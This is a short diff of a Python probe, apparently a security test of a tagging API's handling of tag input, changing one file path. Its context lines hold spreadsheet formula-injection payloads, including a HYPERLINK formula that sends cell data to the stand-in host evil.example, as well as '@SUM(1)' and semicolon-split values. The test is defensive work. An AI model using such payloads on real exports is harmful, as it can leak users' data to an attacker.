@@ -262,7 +262,7 @@ def probe_tags(target: Target) -> Iterator[Row]:
         ok=codes[0].startswith("200") and all(c == "409 too_many_manual_tags" for c in codes[1:]),
     )
 
-    job_id = _create(target, ["/nowhere/u.jpg"])
+    job_id = _create(target, [f"{target.root}/nowhere/u.jpg"])
     (item_id,) = _answer(target, job_id, [{"tags": ["sea", "@SUM(1)"]}])
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "rock;roll", "a;=1+1"]
     path = f"{target.base}/v1/jobs/{job_id}/items/{item_id}/tags"
